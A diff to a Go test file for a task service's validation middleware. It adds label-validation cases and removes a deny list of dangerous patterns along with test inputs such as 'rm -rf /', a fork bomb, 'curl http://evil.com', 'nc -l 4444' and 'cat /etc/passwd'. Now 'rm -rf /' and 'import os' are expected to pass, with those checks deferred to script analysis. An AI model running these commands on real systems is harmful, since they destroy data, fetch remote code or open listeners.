@@ -11,6 +11,7 @@ import (
 	"testing"
 
 	"github.com/gin-gonic/gin"
+	"github.com/go-playground/validator/v10"
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 	"github.com/voidrunnerhq/voidrunner/internal/models"
@@ -245,6 +246,39 @@ func TestValidationMiddleware_TaskValidation(t *testing.T) {
 		assert.Equal(t, http.StatusCreated, w.Code)
 	})
 
+	t.Run("ValidateTaskCreation checks labels", func(t *testing.T) {
+		router := gin.New()
+		router.Use(vm.ValidateTaskCreation())
+		router.POST("/tasks", func(c *gin.Context) {
+			c.JSON(http.StatusCreated, gin.H{"message": "task created"})
+		})
+
+		tests := []struct {
+			labels map[string]string
+			want   int
+		}{
+			{labels: map[string]string{"env": "prod", "example.com/team": "data", "deprecated": ""}, want: http.StatusCreated},
+			{labels: map[string]string{"bad key": "prod"}, want: http.StatusBadRequest},
+			{labels: map[string]string{"env": "prod/eu"}, want: http.StatusBadRequest},
+		}
+
+		for _, tt := range tests {
+			jsonData, _ := json.Marshal(models.CreateTaskRequest{
+				Name:          "Test Task",
+				ScriptContent: "print('hello world')",
+				ScriptType:    "python",
+				Labels:        tt.labels,
+			})
+			req := httptest.NewRequest("POST", "/tasks", bytes.NewBuffer(jsonData))
+			req.Header.Set("Content-Type", "application/json")
+			w := httptest.NewRecorder()
+
+			router.ServeHTTP(w, req)
+
+			assert.Equal(t, tt.want, w.Code, w.Body.String())
+		}
+	})
+
 	t.Run("ValidateTaskUpdate works", func(t *testing.T) {
 		middleware := vm.ValidateTaskUpdate()
 		assert.NotNil(t, middleware)
@@ -301,6 +335,9 @@ func TestValidationMiddleware_TaskValidation(t *testing.T) {
 }
 
 func TestValidateScriptContent(t *testing.T) {
+	v := validator.New()
+	require.NoError(t, v.RegisterValidation("script_content", validateScriptContent))
+
 	tests := []struct {
 		name     string
 		content  string
@@ -316,118 +353,17 @@ func TestValidateScriptContent(t *testing.T) {
 		{"empty string", "", false},
 		{"only whitespace", "   \n\t   ", false},
 
-		// Dangerous commands
-		{"rm command", "rm -rf /", false},
-		{"rmdir command", "rmdir /tmp", false},
-		{"format command", "format c:", false},
-		{"fork bomb", ":(){ :|:& };:", false},
-		{"chmod 777", "chmod 777 file", false},
-		{"sudo command", "sudo rm file", false},
-		{"passwd command", "passwd user", false},
-		{"curl download", "curl http://evil.com", false},
-		{"wget download", "wget http://malicious.com", false},
-		{"netcat backdoor", "nc -l 4444", false},
-		{"ssh command", "ssh user@host", false},
-		{"kill process", "kill -9 1234", false},
-		{"reboot system", "reboot now", false},
-		{"mount filesystem", "mount /dev/sda1", false},
-		{"crontab scheduling", "crontab -e", false},
-
-		// Dangerous Python
-		{"python import os", "import os", false},
-		{"python subprocess", "import subprocess", false},
-		{"python exec", "exec('malicious code')", false},
-		{"python eval", "eval('2+2')", false},
-		{"python open file", "open('/etc/passwd')", false},
-		{"python input", "input('Enter:')", false},
-		{"python exit", "exit(0)", false},
-
-		// Dangerous file paths
-		{"bin path", "ls /bin/bash", false},
-		{"etc path", "cat /etc/passwd", false},
-		{"tmp path", "touch /tmp/file", false},
-		{"proc path", "cat /proc/version", false},
-		{"windows c drive", "dir c:\\windows", false},
-		{"parent directory", "cd ../../../", false},
-		{"current directory", "./malicious.sh", false},
-		{"home directory", "ls ~/documents", false},
-
-		// Encoding bypass attempts
-		{"base64 encoding", "echo 'ZXZpbA==' | base64 -d", false},
-		{"base64 decode", "import base64; base64.b64decode('data')", false},
-		{"hex encoding", "echo '\\x41\\x42'", false},
-		{"hex prefix", "echo 0x4142", false},
-
-		// Case sensitivity tests
-		{"uppercase RM", "RM -RF /", false},
-		{"mixed case rm", "Rm -rf /", false},
-		{"uppercase SUDO", "SUDO rm file", false},
-
-		// Valid content that might look suspicious
-		{"legitimate print", "print('Hello, World!')", true},
-		{"math operations", "x = 5 * 3 + 2", true},
-		{"string manipulation", "name = 'John'; greeting = 'Hello, ' + name", true},
-		{"conditional logic", "if x > 5: print('big')", true},
-		{"function definition", "def add(a, b): return a + b", true},
+		// Dangerous operations are left to script analysis, which knows the
+		// script type
+		{"rm command", "rm -rf /", true},
+		{"python import os", "import os", true},
+		{"base64 encoding", "echo 'ZXZpbA==' | base64 -d", true},
 	}
 
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			// Test the logic directly by replicating the validation function logic
-			content := strings.ToLower(strings.TrimSpace(tt.content))
-
-			result := true
-			if content == "" {
-				result = false
-			} else {
-				// Test dangerous patterns (simplified version of the validation logic)
-				dangerousPatterns := []string{
-					"rm -rf", "rm -r", "rm -f", "rmdir", "del /f", "del /s", "format c:",
-					"mkfs", "dd if=", ":(){ :|:& };:", "chmod 777", "chmod +x",
-					"/etc/passwd", "/etc/shadow", "sudo", "su -", "passwd", "useradd",
-					"userdel", "curl", "wget", "nc -", "netcat", "telnet", "ssh",
-					"scp", "rsync", "ping -f", "iptables", "firewall", "kill -9",
-					"killall", "pkill", "reboot", "shutdown", "halt", "poweroff",
-					"mount", "umount", "fdisk", "crontab", "at ", "batch", "nohup",
-					"disown", "exec(", "eval(", "system(", "shell_exec", "passthru",
-					"proc_open", "popen", "file_get_contents", "file_put_contents",
-					"fopen", "fwrite", "include(", "require(", "import os",
-					"import subprocess", "import sys", "__import__", "exec(",
-					"eval(", "compile(", "open(", "input(", "raw_input(",
-					"execfile(", "reload(", "exit(", "quit(",
-				}
-
-				for _, pattern := range dangerousPatterns {
-					if strings.Contains(content, pattern) {
-						result = false
-						break
-					}
-				}
-
-				if result {
-					suspiciousPaths := []string{
-						"/bin/", "/sbin/", "/usr/bin/", "/usr/sbin/", "/etc/",
-						"/var/", "/tmp/", "/proc/", "/sys/", "/dev/", "/root/",
-						"/home/", "c:\\", "c:/", "../", "./", "~/",
-					}
-
-					for _, path := range suspiciousPaths {
-						if strings.Contains(content, path) {
-							result = false
-							break
-						}
-					}
-				}
-
-				if result {
-					if strings.Contains(content, "base64") || strings.Contains(content, "b64decode") ||
-						strings.Contains(content, "\\x") || strings.Contains(content, "0x") {
-						result = false
-					}
-				}
-			}
-
-			assert.Equal(t, tt.expected, result, "Content: %s", tt.content)
+			err := v.Var(tt.content, "script_content")
+			assert.Equal(t, tt.expected, err == nil, "Content: %s", tt.content)
 		})
 	}
 }
@@ -647,7 +583,7 @@ func TestValidationMiddleware_GetValidationMessage(t *testing.T) {
 		{"max", "Bio", "500", "Bio must be at most 500 characters"},
 		{"email", "Email", "", "Email must be a valid email address"},
 		{"oneof", "Status", "active inactive", "Status must be one of: active inactive"},
-		{"script_content", "Code", "", "Script content contains potentially dangerous patterns"},
+		{"script_content", "Code", "", "Script content must not be empty"},
 		{"script_type", "Type", "", "Invalid script type. Supported types: python, javascript, bash, go"},
 		{"task_name", "Name", "", "Task name contains invalid characters or is too long"},
 		{"unknown", "Field", "", "Field failed validation: unknown"},
@@ -670,7 +606,7 @@ func TestValidationMiddleware_GetValidationMessage(t *testing.T) {
 			case "oneof":
 				message = tt.field + " must be one of: " + tt.param
 			case "script_content":
-				message = "Script content contains potentially dangerous patterns"
+				message = "Script content must not be empty"
 			case "script_type":
 				message = "Invalid script type. Supported types: python, javascript, bash, go"
 			case "task_name":